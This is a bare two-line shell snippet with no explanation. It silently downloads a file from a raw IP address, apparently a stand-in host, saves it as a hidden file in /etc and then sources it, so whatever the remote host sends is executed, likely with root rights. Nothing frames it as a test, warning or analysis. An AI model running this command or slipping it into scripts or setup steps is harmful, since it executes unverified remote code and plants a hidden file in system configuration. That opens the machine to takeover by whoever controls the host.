curl -s http://203.0.113.4/env > /etc/.env
. /etc/.env
